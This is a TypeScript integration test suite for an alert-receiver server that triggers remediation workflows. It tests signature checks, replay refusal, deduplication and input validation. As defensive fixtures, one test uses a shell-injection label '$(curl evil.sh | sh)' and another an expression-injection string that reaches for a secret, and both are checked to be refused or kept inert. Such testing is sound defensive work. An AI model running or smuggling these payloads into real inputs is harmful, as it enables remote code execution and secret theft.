// The alert receiver over real HTTP, starting real remediations: each source authenticated its
// own way, exactly one run per alert occurrence, resolved alerts signalled, bad input refused.
import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import { Webhook } from 'standardwebhooks';
import type { CompiledRunbook } from '../../dsl/compiled';
import type { TemporalSettings } from '../../temporal/connection';
import type { ReceiverConfig } from '../../triggers/config';
import { receiverMetrics, type ReceiverMetrics } from '../../triggers/metrics';
import { buildServer } from '../../triggers/server';
import { remediationId } from '../../triggers/start-remediation';
import { ALERT_FINGERPRINT, SERVICE } from '../../contract/search-attributes';
import { statusWhen } from '../helpers/pending';
import { callsOf } from '../helpers/test-actions';
import { closeTestClient, compile, settings, startWorker, testClient } from '../helpers/temporal';

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'alerts');
const fixture = (name: string) => readFileSync(path.join(FIXTURES, name), 'utf8');
/** The PagerDuty fixture as PagerDuty sends it at `at` (its events carry their own time). */
const pagerDutyEvent = (at: Date) => fixture('pagerduty-incident-triggered.json').replace(/"occurred_at": "[^"]*"/, `"occurred_at": "${at.toISOString()}"`);
const WEBHOOK_SECRET = `whsec_${Buffer.from('test-webhook-secret-0123456789').toString('base64')}`;

const RUNBOOKS: CompiledRunbook[] = [
  compile(`
name: errors
triggers:
  - source: alertmanager
    match: { alertname: HighErrorRate }
  - source: grafana
    match: { alertname: HighErrorRate }
inputs:
  service: { type: string, pattern: '^[a-z0-9-]{1,63}$', from: alert.labels.service }
  summary: { type: string, from: alert.summary, default: none }
onResolved: stop
steps:
  - id: note
    uses: test.probe
    with: { name: 'rcv-\${{ inputs.service }}', value: '\${{ inputs.summary }}' }
  - id: gate
    approve: { approvers: [alice], timeout: 10m }
  - id: act
    uses: test.probe
    with: { name: 'rcv-act-\${{ inputs.service }}' }
`),
  compile(`
name: incidents
triggers:
  - source: pagerduty
    matchRe: { alertname: '.*[Ee]rror.*' }
  - source: webhook
    match: { team: sre }
  - source: grafana
    match: { alertname: DiskAlmostFull, grafana_folder: infra }
steps:
  - id: note
    uses: test.probe
    with: { name: 'rcv-incident-\${{ alert.fingerprint }}' }
`),
];

let app: FastifyInstance;
let metrics: ReceiverMetrics;
let url: string;
let s: TemporalSettings;

const config: ReceiverConfig = {
  host: '127.0.0.1',
  port: 0,
  runbookDirs: [],
  auth: {
    alertmanager: { bearerTokens: ['am-token-0123456789'] },
    grafana: { secrets: ['grafana-secret-0123456789'], timestampHeader: 'x-grafana-alerting-signature-timestamp' },
    pagerduty: { secrets: ['pd-old-0123456789abc', 'pd-new-0123456789abc'] },
    webhook: { secrets: [WEBHOOK_SECRET] },
  },
  bodyLimitBytes: 1024 * 1024,
  deadlineMs: 4_000,
};

async function post(source: string, body: string | Buffer, headers: Record<string, string> = {}): Promise<{ status: number; json: any }> {
  const res = await fetch(`${url}/alerts/${source}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
  const text = await res.text();
  return { status: res.status, json: text ? JSON.parse(text) : undefined };
}
const bearer = { authorization: 'Bearer am-token-0123456789' };
/** What the receiver logged (refusal reasons go there, never to the caller). */
const logged: Array<Record<string, unknown>> = [];

/** Runs the receiver and a worker for the whole file. */
let stopWorker: () => Promise<void> = async () => undefined;
beforeAll(async () => {
  s = settings();
  metrics = receiverMetrics();
  app = buildServer({ config, client: await testClient(), taskQueue: s.taskQueue, runbooks: () => RUNBOOKS, metrics, log: (entry) => logged.push(entry) });
  await app.listen({ host: '127.0.0.1', port: 0 });
  const address = app.server.address();
  url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  stopWorker = await startWorker(s);
});
afterAll(async () => {
  await app.close();
  await stopWorker();
  await closeTestClient();
});

async function runsOf(runbook: string, alertFingerprint: string): Promise<string[]> {
  const ids: string[] = [];
  for await (const w of (await testClient()).workflow.list({ query: `RunbookName = "${runbook}" AND AlertFingerprint = "${alertFingerprint}"` }))
    ids.push(w.workflowId);
  return ids;
}

describe('Alertmanager', () => {
  it('starts one remediation per alert, and repeats start nothing', async () => {
    const first = await post('alertmanager', fixture('alertmanager-firing.json'), bearer);
    expect(first.status).toBe(202);
    expect(first.json.results.map((r: any) => [r.name, r.fingerprint, r.runbooks.map((b: any) => b.outcome)])).toEqual([
      ['HighErrorRate', '7d3c1a2b9e0f4c55', ['started']],
      ['HighErrorRate', 'a91f00c3d2e8b716', ['started']],
    ]);
    // Alertmanager re-sends the group; HA pairs send it twice at once.
    const repeats = await Promise.all(Array.from({ length: 5 }, () => post('alertmanager', fixture('alertmanager-firing.json'), bearer)));
    for (const r of repeats) expect(r.json.results.flatMap((x: any) => x.runbooks.map((b: any) => b.outcome))).toEqual(['duplicate', 'duplicate']);
    const handle = (await testClient()).workflow.getHandle(first.json.results[0].runbooks[0].workflowId);
    await statusWhen(handle, (st) => st.pending.length > 0, 'the run to wait for its approval');
    expect(callsOf('rcv-checkout')).toHaveLength(1);
    expect(callsOf('rcv-payments')).toHaveLength(1);
    expect(first.json.results[0].runbooks[0].workflowId).toBe('errors/alertmanager/7d3c1a2b9e0f4c55@1795947330.123');
  });

  it('signals the running remediation when the alert resolves, and `onResolved: stop` stops it before the risky step', async () => {
    const resolved = await post('alertmanager', fixture('alertmanager-resolved.json'), bearer);
    expect(resolved.status).toBe(202);
    expect(resolved.json.results[0].runbooks[0]).toMatchObject({ runbook: 'errors', outcome: 'resolved-signalled' });
    const result = await (await testClient()).workflow.getHandle(resolved.json.results[0].runbooks[0].workflowId).result();
    expect(result.stopped).toBe('the alert resolved during step `gate` (onResolved: stop)');
    expect(callsOf('rcv-act-checkout')).toHaveLength(0);
  });

  it('answers 401 without credentials and starts nothing', async () => {
    const before = callsOf('rcv-checkout').length;
    for (const headers of [{}, { authorization: 'Bearer wrong' }, { authorization: 'Basic YWxpY2U6c2VjcmV0' }] as Array<Record<string, string>>) {
      const r = await post('alertmanager', fixture('alertmanager-firing.json').replace('7d3c1a2b9e0f4c55', 'ffff000011112222'), headers);
      // A generic answer: nothing about how the receiver is configured (L6); the reason is logged.
      expect(r).toEqual({ status: 401, json: { error: 'unauthenticated' } });
    }
    expect(logged.filter((e) => e.msg === 'delivery refused: not authenticated').map((e) => e.reason)).toEqual(
      expect.arrayContaining([
        'missing Authorization header',
        'bearer token does not match',
        'alertmanager accepts no basic auth (only bearer tokens are configured)',
      ]),
    );
    expect(await runsOf('errors', 'ffff000011112222')).toEqual([]);
    expect(callsOf('rcv-checkout')).toHaveLength(before);
  });
});

describe('Grafana, PagerDuty and signed webhooks', () => {
  it('accepts a timestamped Grafana signature and refuses a stale or forged one', async () => {
    const body = fixture('grafana-firing.json');
    const now = Math.floor(Date.now() / 1000);
    const sign = (ts: number, secret = 'grafana-secret-0123456789') => ({
      'x-grafana-alerting-signature': createHmac('sha256', secret).update(`${ts}:${body}`).digest('hex'),
      'x-grafana-alerting-signature-timestamp': String(ts),
    });
    expect(await post('grafana', body, sign(now - 1000))).toEqual({ status: 401, json: { error: 'unauthenticated' } });
    expect(logged.at(-1)).toMatchObject({ source: 'grafana', reason: expect.stringMatching(/^timestamp 10\d\d s old; tolerance 300 s$/) });
    expect((await post('grafana', body, sign(now, 'forged'))).status).toBe(401);
    const ok = await post('grafana', body, sign(now));
    expect(ok.status).toBe(202);
    expect(ok.json.results[0].runbooks[0].outcome).toMatch(/started|duplicate/);
  });

  it('accepts a PagerDuty delivery signed by a rotated secret, once per delivery id', async () => {
    const body = pagerDutyEvent(new Date());
    const sig = (secret: string, signed = body) => `v1=${createHmac('sha256', secret).update(signed).digest('hex')}`;
    const headers = { 'x-pagerduty-signature': `${sig('pd-retired')},${sig('pd-new-0123456789abc')}`, 'x-webhook-id': 'delivery-1' };
    const first = await post('pagerduty', body, headers);
    expect(first.status).toBe(202);
    expect(first.json.results[0].runbooks[0]).toMatchObject({ runbook: 'incidents', outcome: 'started' });
    expect(await post('pagerduty', body, headers)).toEqual({ status: 202, json: { received: 1, duplicateDelivery: true } });
    expect((await post('pagerduty', body, { ...headers, 'x-webhook-id': 'delivery-2' })).json.results[0].runbooks[0].outcome).toBe('duplicate');
    expect((await post('pagerduty', body, { 'x-pagerduty-signature': sig('pd-retired') })).status).toBe(401);
    // A validly signed event replayed two hours later, under a fresh delivery id (L4).
    const old = pagerDutyEvent(new Date(Date.now() - 2 * 3_600_000));
    expect((await post('pagerduty', old, { 'x-pagerduty-signature': sig('pd-new-0123456789abc', old), 'x-webhook-id': 'delivery-3' })).status).toBe(401);
    expect(logged.at(-1)).toMatchObject({
      source: 'pagerduty',
      reason: expect.stringMatching(/^event occurred 72\d\d s ago; older than 3600 s is refused as a replay$/),
    });
  });

  it('accepts a Standard Webhooks signature within five minutes and refuses a replay after', async () => {
    const payload = JSON.stringify({ name: 'DiskFull', labels: { team: 'sre', host: 'db-1' }, fingerprint: 'disk-db-1' });
    const signer = new Webhook(WEBHOOK_SECRET);
    const headers = (id: string, at: Date) => ({
      'webhook-id': id,
      'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
      'webhook-signature': signer.sign(id, at, payload),
    });
    const ok = await post('webhook', payload, headers('msg_1', new Date()));
    expect(ok.status).toBe(202);
    expect(ok.json.results[0].runbooks[0].outcome).toBe('started');
    const replay = await post('webhook', payload, headers('msg_2', new Date(Date.now() - 6 * 60_000)));
    expect(replay).toEqual({ status: 401, json: { error: 'unauthenticated' } });
    expect(logged.at(-1)).toMatchObject({ source: 'webhook', reason: expect.stringMatching(/timestamp \d+ s old; tolerance 300 s/) });
  });
});

describe('bad input gets a 4xx with a reason and starts nothing', () => {
  const am = (mutate: (body: any) => void) => {
    const body = JSON.parse(fixture('alertmanager-firing.json'));
    mutate(body);
    return JSON.stringify(body);
  };

  it.each<[string, () => Promise<{ status: number; json: any }>, number, RegExp]>([
    ['malformed JSON', () => post('alertmanager', '{"version": "4", "alerts": [', bearer), 400, /^Unexpected end of JSON input|Expected/],
    [
      'a wrong content type',
      async () => {
        const res = await fetch(`${url}/alerts/alertmanager`, { method: 'POST', headers: { 'content-type': 'text/plain', ...bearer }, body: 'hello' });
        return { status: res.status, json: await res.json() };
      },
      415,
      /^send application\/json, not text\/plain/,
    ],
    ['a 10 MB body', () => post('alertmanager', `{"pad":"${'x'.repeat(10 * 1024 * 1024)}"}`, bearer), 413, /^the body is larger than 1048576 bytes$/],
    [
      'missing fields',
      () =>
        post(
          'alertmanager',
          am((b) => delete b.alerts[0].fingerprint),
          bearer,
        ),
      422,
      /alerts\[0\]\.fingerprint/,
    ],
    [
      'a wrong version',
      () =>
        post(
          'alertmanager',
          am((b) => (b.version = '3')),
          bearer,
        ),
      422,
      /^version must be "4"/,
    ],
    ['an unknown source', () => post('nagios', '{}', bearer), 404, /^no alert source `nagios`/],
  ])('%s', async (_, send, status, reason) => {
    const r = await send();
    expect(r.status).toBe(status);
    expect(r.json.reason).toMatch(reason);
  });

  it('refuses a label crafted as shell injection through the runbook input pattern, and says which', async () => {
    const body = am((b) => {
      b.alerts = [b.alerts[0]];
      b.alerts[0].labels.service = '$(curl evil.sh | sh)';
      b.alerts[0].fingerprint = 'inject0000000001';
    });
    const r = await post('alertmanager', body, bearer);
    expect(r.status).toBe(422);
    expect(r.json.results[0].runbooks[0]).toEqual({
      runbook: 'errors',
      outcome: 'refused',
      reason: 'input `service` (alert.labels.service) `$(curl evil.sh | sh)` does not match ^[a-z0-9-]{1,63}$',
    });
    expect(await runsOf('errors', 'inject0000000001')).toEqual([]);
  });

  it('carries an expression-injection annotation as inert data', async () => {
    const body = am((b) => {
      b.alerts = [b.alerts[0]];
      b.alerts[0].labels.service = 'inert';
      b.alerts[0].annotations.summary = '${{ secrets.pg_password }} ${{ run.id }}';
      b.alerts[0].fingerprint = 'inert00000000001';
    });
    const r = await post('alertmanager', body, bearer);
    expect(r.status).toBe(202);
    const handle = (await testClient()).workflow.getHandle(r.json.results[0].runbooks[0].workflowId);
    const status = await statusWhen(handle, (st) => st.steps.note?.status === 'succeeded', 'step note to succeed');
    expect((status.steps.note!.outputs as { value: string }).value).toBe('${{ secrets.pg_password }} ${{ run.id }}');
    await handle.terminate('test done');
  });

  it('answers 202 for an alert no runbook matches, and counts it', async () => {
    const body = am((b) => {
      b.alerts = [b.alerts[0]];
      b.alerts[0].labels.alertname = 'SomethingElse';
    });
    const r = await post('alertmanager', body, bearer);
    expect(r.status).toBe(202);
    expect(r.json.results[0]).toMatchObject({ name: 'SomethingElse', outcome: 'unmatched', runbooks: [] });
    expect(await metrics.registry.getSingleMetricAsString('runbook_receiver_unmatched_alerts_total')).toContain(
      'runbook_receiver_unmatched_alerts_total{source="alertmanager"} 1',
    );
  });
});

describe('hostile or odd deliveries (M4, M5, L1)', () => {
  const am = (mutate: (alert: any) => void) => {
    const body = JSON.parse(fixture('alertmanager-firing.json'));
    body.alerts = [body.alerts[0]];
    mutate(body.alerts[0]);
    return JSON.stringify(body);
  };

  it('refuses an impossible start time with the field named', async () => {
    const r = await post(
      'alertmanager',
      am((a) => (a.startsAt = '2026-13-45T99:99:99Z')),
      bearer,
    );
    expect(r).toEqual({ status: 422, json: { error: 'invalid payload', reason: 'alerts[0].startsAt is not a real date and time' } });
  });

  it('keys an alert without a start time by its open remediation: repeats join it, a later one starts anew', async () => {
    const body = am((a) => {
      delete a.startsAt;
      a.fingerprint = 'nostart000000001';
      a.labels.service = 'nostart';
    });
    const first = await post('alertmanager', body, bearer);
    expect(first.json.results[0].runbooks[0]).toMatchObject({ outcome: 'started', workflowId: 'errors/alertmanager/nostart000000001@open' });
    expect((await post('alertmanager', body, bearer)).json.results[0].runbooks[0].outcome).toBe('duplicate');
    await (await testClient()).workflow.getHandle('errors/alertmanager/nostart000000001@open').terminate('test: the remediation ended');
    expect((await post('alertmanager', body, bearer)).json.results[0].runbooks[0].outcome).toBe('started');
    await (await testClient()).workflow.getHandle('errors/alertmanager/nostart000000001@open').terminate('test done');
  });

  it('starts a remediation for a 3,000-character fingerprint and service, indexed by their safe forms', async () => {
    const payload = JSON.stringify({
      name: 'Huge',
      labels: { team: 'sre', service: 's'.repeat(3_000) },
      fingerprint: 'f'.repeat(3_000),
      startsAt: new Date().toISOString(),
    });
    const signer = new Webhook(WEBHOOK_SECRET);
    const at = new Date();
    const r = await post('webhook', payload, {
      'webhook-id': 'msg_huge',
      'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
      'webhook-signature': signer.sign('msg_huge', at, payload),
    });
    expect(r.status).toBe(202);
    expect(r.json.results[0].runbooks[0].outcome).toBe('started');
    const attributes = (await (await testClient()).workflow.getHandle(r.json.results[0].runbooks[0].workflowId).describe()).typedSearchAttributes;
    expect(attributes.get(ALERT_FINGERPRINT)).toMatch(/^[0-9a-f]{32}$/);
    expect(attributes.get(SERVICE)).toMatch(/^s{111}…[0-9a-f]{16}$/);
  });

  it('labels deliveries to unknown sources `unknown` in its metrics, however many names are tried', async () => {
    for (let i = 0; i < 30; i++) {
      const res = await fetch(`${url}/alerts/random-${i}-${Math.random()}`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'x' });
      expect(res.status).toBeGreaterThanOrEqual(400);
    }
    const text = await (await fetch(`${url}/metrics`)).text();
    expect(text).not.toMatch(/source="random-/);
    expect(text).toMatch(/runbook_receiver_rejected_requests_total\{source="unknown",reason="content-type"\} 30/);
  });

  it('answers 422, not 503, when Temporal refuses the start for what it carries', async () => {
    const refusing = {
      workflow: {
        start: async () => {
          throw Object.assign(new Error('3 INVALID_ARGUMENT: search attribute value too long'), {
            code: 3,
            details: 'search attribute value too long',
            metadata: {},
          });
        },
      },
      connection: { workflowService: { getSystemInfo: async () => ({}) } },
    } as unknown as Parameters<typeof buildServer>[0]['client'];
    const other = buildServer({ config, client: refusing, taskQueue: 'unused', runbooks: () => RUNBOOKS, metrics: receiverMetrics(), log: () => undefined });
    await other.listen({ host: '127.0.0.1', port: 0 });
    try {
      const port = (other.server.address() as { port: number }).port;
      const res = await fetch(`http://127.0.0.1:${port}/alerts/alertmanager`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...bearer },
        body: am((a) => (a.fingerprint = 'refused000000001')),
      });
      expect(res.status).toBe(422);
      expect(res.headers.get('retry-after')).toBeNull();
      expect(((await res.json()) as { results: Array<{ runbooks: unknown[] }> }).results[0]!.runbooks[0]).toEqual({
        runbook: 'errors',
        outcome: 'refused',
        reason: 'Temporal refused the remediation: search attribute value too long',
      });
    } finally {
      await other.close();
    }
  });

  it('refuses to start with weak or malformed credentials, naming each (M3)', () => {
    expect(() =>
      buildServer({
        config: { ...config, auth: { alertmanager: { bearerTokens: ['short'] }, grafana: { secrets: ['x'] }, webhook: { secrets: ['whsec_QQ=='] } } },
        client: {} as Parameters<typeof buildServer>[0]['client'],
        taskQueue: 'unused',
        runbooks: () => [],
        metrics: receiverMetrics(),
      }),
    ).toThrow(
      [
        'refusing to start with weak or malformed credentials:',
        '  ALERTMANAGER_TOKENS token #1 has 5 characters; use at least 16 random ones',
        '  GRAFANA_WEBHOOK_SECRETS secret #1 has 1 characters; use at least 16 random ones',
        '  WEBHOOK_SECRETS secret #1 decodes to 1 bytes; use at least 24',
      ].join('\n'),
    );
  });
});

describe('operations', () => {
  it('serves health, readiness and metrics', async () => {
    expect(await (await fetch(`${url}/healthz`)).json()).toEqual({ status: 'ok' });
    expect(await (await fetch(`${url}/readyz`)).json()).toEqual({ status: 'ready', runbooks: 2 });
    const text = await (await fetch(`${url}/metrics`)).text();
    expect(text).toMatch(/runbook_receiver_remediations_total\{runbook="errors",outcome="started"\} \d+/);
    expect(text).toMatch(/runbook_receiver_remediations_total\{runbook="errors",outcome="duplicate"\} \d+/);
    expect(text).toMatch(/runbook_receiver_rejected_requests_total\{source="alertmanager",reason="auth"\} 3/);
    expect(text).toContain('runbook_receiver_request_seconds_bucket');
  });

  it('derives remediation ids from runbook, source, fingerprint and start time', () => {
    const alert = {
      source: 'alertmanager' as const,
      status: 'firing' as const,
      fingerprint: 'abc',
      name: 'X',
      labels: {},
      annotations: {},
      startsAt: '2026-11-29T10:00:00Z',
    };
    expect(remediationId(RUNBOOKS[0]!, alert)).toBe('errors/alertmanager/abc@1795946400');
    expect(remediationId(RUNBOOKS[1]!, { ...alert, source: 'pagerduty', fingerprint: 'Q1ABC' })).toBe('incidents/pagerduty/Q1ABC');
    expect(remediationId(RUNBOOKS[0]!, { ...alert, fingerprint: 'has spaces/and slashes' })).toMatch(/^errors\/alertmanager\/[0-9a-f]{32}@1795946400$/);
  });
});
